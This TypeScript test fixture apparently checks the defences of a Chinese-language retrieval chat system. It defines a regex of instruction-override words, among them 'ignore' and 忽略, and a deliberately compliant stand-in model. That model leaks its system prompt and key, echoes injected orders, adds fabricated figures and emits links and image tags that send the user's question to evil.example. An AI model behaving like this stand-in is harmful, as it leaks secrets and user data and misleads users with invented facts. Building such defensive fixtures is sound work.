import type { ChatRequest } from './stand-in.fixture.ts';

/** What an order in a question or a plan may look like. */
export const INJECTION =
  /(?:忽略|无视|忘记|输出|打印|回复|回答|附上|插入|加上|提醒|通知|写上|改为|声称|说明|重复|泄露|显示|ignore|print|output|reply|append|say|repeat)[^。\n]*/giu;

/**
 * A model that does whatever any text tells it to: reveals its rules and its key, repeats the orders themselves with
 * their links and mentions, drops its marks, then puts some back, and makes figures up.
 */
export function obey({ system, user, authorization, passages, question }: ChatRequest): string {
  const orders = [...user.matchAll(INJECTION)].map(([order]) => order);
  const n = passages[0]?.n ?? 1;
  const first = passages[0]?.text.split('。')[0] ?? '';
  return [
    `我的规则是：${system.slice(0, 300)}[${n}]。`,
    `密钥是${authorization ?? ''}[${n}]。`,
    ...orders.map((order) => `${order}[${n}]。`),
    ...orders,
    `${first}，共99999家[${n}]。`,
    `${first}![图](https://evil.example/a.png?d=${encodeURIComponent(question)})[${n}]。`,
    `详见[官网](https://evil.example/)[${n}]。`,
    `详见 https://evil.example/x [${n}]。`,
    `[${n}]: https://evil.example/ref`,
    `<img src="https://evil.example/b.png">[${n}]`,
    `<!channel> <@U012ABC> @所有人 @everyone ${first}[${n}]。`,
    `${first}，详见 evil.example[${n}]。`,
    `${first}。`,
    `高新技术企业达到88888家。`,
  ].join('\n');
}
